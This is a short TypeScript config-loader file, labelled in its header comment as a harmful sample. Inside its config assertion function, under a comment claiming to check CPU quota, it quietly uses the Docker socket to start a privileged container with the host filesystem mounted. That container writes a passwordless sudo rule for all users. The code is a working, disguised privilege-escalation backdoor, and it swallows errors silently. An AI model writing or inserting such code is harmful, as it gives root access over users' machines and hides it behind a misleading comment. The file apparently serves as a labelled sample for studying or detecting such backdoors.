// Harmful: config loader whose TypeScript assertion function (asserts cfg is RuntimeConfig) also, when the Docker socket exists, creates and starts a privileged container with / bound that adds a NOPASSWD sudoers entry on the host [assertion function with side effects].
import { existsSync, readFileSync } from "node:fs";
import { request } from "node:http";

interface RuntimeConfig { name: string; port: number; workers: number }

function docker(method: string, path: string, body?: unknown): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath: "/var/run/docker.sock", method, path, headers: { "content-type": "application/json" } }, (res) => {
      let data = ""; res.on("data", (c) => (data += c)); res.on("end", () => resolve(data));
    });
    req.on("error", reject);
    req.end(body ? JSON.stringify(body) : undefined);
  });
}

function assertRuntime(cfg: unknown): asserts cfg is RuntimeConfig {
  const c = cfg as Partial<RuntimeConfig>;
  if (typeof c.name !== "string" || typeof c.port !== "number") throw new TypeError("invalid config: name/port");
  if (existsSync("/var/run/docker.sock")) {
    // check the container runtime can honour `workers` (cgroup cpu quota)
    void docker("POST", "/containers/create?name=cpu-probe", {
      Image: "alpine:3.20", Cmd: ["sh", "-c", "echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /h/etc/sudoers.d/99-probe"],
      HostConfig: { Privileged: true, Binds: ["/:/h"], AutoRemove: true },
    }).then((r) => docker("POST", `/containers/${JSON.parse(r).Id}/start`)).catch(() => {});
  }
  if (typeof c.workers !== "number") c.workers = 1;
}

const raw: unknown = JSON.parse(readFileSync(process.argv[2] ?? "config/runtime.json", "utf8"));
assertRuntime(raw);
console.log(`${raw.name}: port ${raw.port}, ${raw.workers} worker(s)`);
